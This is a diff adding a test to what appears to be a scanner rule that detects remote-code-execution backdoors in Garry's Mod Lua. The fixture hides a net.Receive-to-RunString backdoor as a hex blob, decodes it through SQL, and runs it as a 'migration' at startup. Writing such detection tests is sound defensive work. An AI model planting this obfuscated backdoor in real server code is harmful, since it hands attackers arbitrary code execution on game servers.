@@ -1289,4 +1289,31 @@ describe('netmessage_rce', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('a receiver whose code exists only as a hex blob the database decodes, compiled as a "migration"', () => {
+    const migrate = (blob: string) => ({
+      'lua/autorun/server/sv_db.lua': [
+        `local MIGRATIONS = { "${blob}" }`,
+        'local function decode(b)',
+        '  local rows = sql.Query("SELECT CAST(" .. b .. " AS TEXT) AS src")',
+        '  return istable(rows) and rows[1] and rows[1].src',
+        'end',
+        'hook.Add("Initialize", "db", function()',
+        '  for _, m in ipairs(MIGRATIONS) do local step = CompileString(decode(m) or "", "migration") if step then step() end end',
+        'end)',
+      ].join('\n'),
+    });
+    expect(
+      worst(
+        check(
+          rule,
+          migrate(
+            "X'6E65742E52656365697665282273796E635F78222C2066756E6374696F6E28292052756E537472696E67286E65742E52656164537472696E6728292920656E6429'",
+          ),
+        ),
+      ),
+    ).toBe(RANK.critical);
+    // A migration that only makes a table: decoded too, nothing to report.
+    const table = "sql.Query('CREATE TABLE IF NOT EXISTS t (a TEXT)')";
+    expect(check(rule, migrate(`X'${Buffer.from(table).toString('hex')}'`))).toEqual([]);
+  });
 });
